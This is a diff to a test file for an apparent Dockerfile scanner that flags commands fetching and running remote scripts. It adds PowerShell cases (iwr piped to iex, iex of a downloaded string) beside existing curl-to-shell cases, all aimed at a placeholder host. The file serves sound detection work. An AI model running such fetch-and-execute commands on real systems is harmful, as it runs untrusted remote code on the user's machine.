@@ -22,6 +22,11 @@ test.each([
   ['ADD https://a/i.sh /tmp/\nRUN sh /tmp/i.sh', '3:5 "sh /tmp/i.sh"'],
   ['RUN <<EOF\ncurl https://a/b | bash\nEOF', '3:1 "curl https://a/b | bash"'],
   ["RUN su app -c 'curl https://a/b | sh'", '2:16 "curl https://a/b | sh"'],
+  ['SHELL ["powershell", "-Command"]\nRUN iwr https://a/i.ps1 | iex', '3:5 "iwr https://a/i.ps1 | iex"'],
+  [
+    "RUN powershell iex ((New-Object Net.WebClient).DownloadString('https://a/i.ps1'))",
+    '2:16 "iex ((New-Object Net.WebClient).DownloadString(\'https://a/i.ps1\'))"',
+  ],
   ['ONBUILD RUN curl https://a/b | sh', '2:13 "curl https://a/b | sh"'],
 ])('told: %j', async (lines, place) => expect(await scan(lines)).toEqual([place]))
 
